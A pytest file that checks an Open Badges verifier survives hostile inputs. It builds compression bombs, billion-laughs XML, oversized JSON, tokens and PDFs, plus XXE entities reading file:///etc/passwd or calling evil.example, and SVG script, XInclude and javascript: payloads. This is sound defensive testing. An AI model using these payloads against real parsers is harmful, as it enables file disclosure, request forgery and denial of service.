"""Small inputs that would like to be large: packed texts, lists, pictures, drawings, numbers. Their cost is bounded."""

import gzip
import io
import json
import time
import tracemalloc
import zlib
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import pytest
from PIL import Image

from badges.openbadges.errors import StatusListError, UnreadableInput
from badges.openbadges.multibase import base64url_encode
from badges.openbadges.png import Chunk, insert_chunks
from badges.openbadges.status_list import decode_bits
from tests.openbadges.samples import STATUS_LIST, judged, png, signed, site

SECONDS, MEGABYTES = 2.0, 64
PACKED = zlib.compress(b" " * 50_000_000, 9)
KEYWORD = b"openbadgecredential"


def spent(work: Callable[[], Any]) -> tuple[float, float]:
    """(processor seconds, megabytes at the peak)."""
    tracemalloc.start()
    start = time.process_time()
    with suppress(UnreadableInput, StatusListError):
        work()
    seconds, peak = time.process_time() - start, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return seconds, peak / 1_000_000


def picture(*chunks: Chunk) -> bytes:
    return insert_chunks(png(), list(chunks))


def large_pixels() -> bytes:
    """400 million pixels in some 400 kB: nobody looks at pixels to read a badge."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def entities(depth: int = 12) -> bytes:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth))
    start = f'<!DOCTYPE svg [<!ENTITY e0 "lol">{lines}]>'
    return f'{start}<svg xmlns="http://www.w3.org/2000/svg">&e{depth - 1};</svg>'.encode()


ATTRIBUTES = " ".join(f'a{number}=""' for number in range(100_000))
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
BOMBS: dict[str, bytes] = {
    "a packed iTXt": picture(Chunk(b"iTXt", KEYWORD + b"\0\1\0\0\0" + PACKED)),
    "a packed zTXt": picture(Chunk(b"zTXt", KEYWORD + b"\0\0" + PACKED)),
    "many texts": picture(*[Chunk(b"tEXt", b"Comment\0" + b"x" * 1_000)] * 9_000),
    "more chunks than anybody needs": picture(*[Chunk(b"tEXt", b"a\0")] * 20_000),
    "pixels": large_pixels(),
    "a billion laughs": entities(),
    "quadratic entities": b'<!DOCTYPE svg [<!ENTITY a "' + b"x" * 50_000 + b'">]><svg>' + b"&a;" * 20_000 + b"</svg>",
    "an entity from a file": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "an entity from elsewhere": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/x">]><svg>&x;</svg>',
    "a parameter entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]><svg/>',
    "a document type elsewhere": b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd"><svg/>',
    "deep elements": b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 200_000,
    "many attributes": f"<svg {SVG} {ATTRIBUTES}/>".encode(),
    "deep JSON": b"[" * 250_000,
    "deep JSON that is a badge": b'{"type":"AchievementCredential","a":' * 6_000,
    "a number of many digits": b'{"type":"AchievementCredential","a":' + b"9" * 200_000 + b"}",
    "a large exponent": b'{"type":"AchievementCredential","a":1e999999999}',
    "many members": json.dumps({"type": "AchievementCredential", **{f"m{n}": n for n in range(20_000)}}).encode(),
    "backslashes": b'{"type":"AchievementCredential","a":"' + b"\\u0041" * 40_000 + b'"}',
    "a token of dots": b"a." * 120_000,
    "a token without end": b"eyJhbGciOiJFUzI1NiJ9." + b"A" * 900_000 + b".A",
    "an address without end": b"https://" + b"a" * 900_000,
    "a PDF that begins for ever": b"%PDF-1.7\n" + b"1 0 obj<<" * 90_000,
    "a PDF of streams": b"%PDF-1.7\n" + (b"1 0 obj<</Filter/FlateDecode/Length 9>>stream\n" + PACKED[:900]) * 500,
}


@pytest.mark.parametrize("name", list(BOMBS))
def test_a_bomb_does_not_go_off(name: str) -> None:
    at = site()
    seconds, megabytes = spent(lambda: judged(BOMBS[name], at=at))
    assert seconds < SECONDS
    assert megabytes < MEGABYTES
    assert [url for url in at.asked if "evil" in url] == []


@pytest.mark.parametrize("name", list(BOMBS))
def test_a_bomb_is_no_badge(name: str) -> None:
    try:
        assert judged(BOMBS[name]).verdict in {"invalid", "unknown"}
    except UnreadableInput:
        return


def test_a_status_list_inflates_to_its_limit_and_no_further() -> None:
    """50 MB of zeros in 50 kB; and a list of lists, which some inflaters follow."""
    for packed in (
        gzip.compress(b"\0" * 50_000_000),
        gzip.compress(gzip.compress(b"\0" * 9_000_000)),
        b"\x1f\x8b" * 99,
    ):
        seconds, megabytes = spent(lambda packed=packed: decode_bits(base64url_encode(packed)))  # type: ignore[misc]
        assert seconds < SECONDS
        assert megabytes < 16
        with pytest.raises(StatusListError):
            decode_bits(base64url_encode(packed))


def test_a_status_list_that_is_a_bomb_leaves_the_badge_unknown() -> None:
    at = site()
    listed = json.loads(json.dumps(at.documents[STATUS_LIST]))
    content = {name: value for name, value in listed.items() if name != "proof"}
    content["credentialSubject"]["encodedList"] = base64url_encode(gzip.compress(b"\0" * 20_000_000))
    at.documents[STATUS_LIST] = signed(content)
    report = judged(signed(), at=at)
    assert report.verdict == "unknown"


@pytest.mark.parametrize(
    "inside",
    [
        "<script>fetch('https://evil.example')</script>",
        '<image href="https://evil.example/x.png"/>',
        '<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        "<style>@import url(https://evil.example/x.css);</style>",
        '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
        '<a onclick="alert(1)" href="javascript:alert(1)"><g/></a>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ],
)
def test_a_drawing_is_read_and_never_obeyed(inside: str) -> None:
    """The badge in it is verified as usual; nothing of the drawing is fetched, run or shown."""
    credential = json.dumps(signed())
    element = f"<openbadges:credential><![CDATA[{credential}]]></openbadges:credential>"
    at = site()
    report = judged(f"<svg {SVG}>{element}{inside}</svg>".encode(), at=at)
    assert report.verdict == "valid"
    assert [url for url in at.asked if "evil" in url or "passwd" in url] == []
    assert "evil" not in json.dumps(report.to_dict())
